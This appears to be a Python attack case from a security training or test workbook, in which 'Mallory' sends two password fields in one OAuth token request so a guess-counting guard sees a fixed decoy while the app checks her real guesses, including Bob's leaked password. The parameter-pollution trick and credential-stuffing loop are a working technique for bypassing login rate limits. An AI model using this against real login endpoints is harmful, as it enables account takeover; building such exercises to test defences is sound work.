"""Mallory guesses Bob's password behind the back of a guard that counts guesses.

The guard in front of the login reads the first password of a form. It is the same one each time,
so it counts a single guess. The app behind it reads the other one, and that changes.
"""

from workbook.attacking import Api, attack, reach

COVER = "the-same-one-every-time"


@attack(
    "Guess behind a guard with two passwords in one form",
    route="POST /token",
    closes=4,
    see="RFC 6749 §3.2",
    catches="PW-21",
)
def repeated_password(api: Api) -> str | None:
    bob = api.bob
    # Bob's password stands in Mallory's list because he uses it at another site, which leaked it.
    for guess in ("letmein-2024", "correct-horse", bob.password):
        cover, real = ("password", COVER), ("password", guess)
        for passwords in ((cover, real), (real, cover)):
            form = [("grant_type", "password"), ("username", bob.username), *passwords]
            seen = reach(api.post("/token", form=form, caller="mallory"))
            if seen.status == 200:
                return f"a token for Bob, while the guard saw one password: {COVER}"
    return None
